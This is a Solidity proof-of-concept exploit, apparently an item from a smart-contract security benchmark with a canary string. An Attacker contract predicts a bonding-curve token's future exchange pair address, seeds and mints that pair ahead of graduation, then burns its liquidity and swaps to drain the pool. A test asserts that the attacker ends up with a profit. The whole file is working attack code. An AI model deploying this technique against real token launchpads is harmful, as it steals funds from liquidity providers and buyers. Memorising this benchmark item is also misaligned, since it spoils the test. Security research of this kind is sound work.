// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    IERC20 private coin;
    BondingCurve private curve;
    LaunchToken private token;
    Pair private pair;

    function run(IERC20 coin_, BondingCurve curve_, LaunchToken token_, Pairs exchange) external {
        (coin, curve, token) = (coin_, curve_, token_);
        coin.approve(address(curve), type(uint256).max);
        (uint256 tokens,) = curve.buy(20_000e18, 1);
        (address a, address b) = address(coin) < address(token) ? (address(coin), address(token)) : (address(token), address(coin));
        bytes32 salt = keccak256(abi.encodePacked(a, b));
        bytes32 code = keccak256(type(Pair).creationCode);
        pair = Pair(address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", address(exchange), salt, code))))));
        try token.transfer(address(pair), tokens) {} catch {
            return;
        }
        exchange.createPair(a, b);
        coin.transfer(address(pair), 1e18);
        pair.mint(address(this));
        curve.buy(8_000e18, 1);
        curve.graduate();
        leave();
    }

    function leave() private {
        pair.transfer(address(pair), pair.balanceOf(address(this)));
        pair.burn(address(this));
        uint256 tokens = token.balanceOf(address(this));
        bool first = address(pair.token0()) == address(token);
        (uint256 t, uint256 c) = (pair.reserve0(), pair.reserve1());
        if (!first) (t, c) = (c, t);
        uint256 out = c * tokens / (t + tokens);
        token.transfer(address(pair), tokens);
        pair.swap(first ? 0 : out, first ? out : 0, address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        coin.mint(address(other), 30_000e18);
    }

    function exploit() public {
        other.run(coin, curve, tarn, exchange);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(other)) >= 40_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(tarn);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
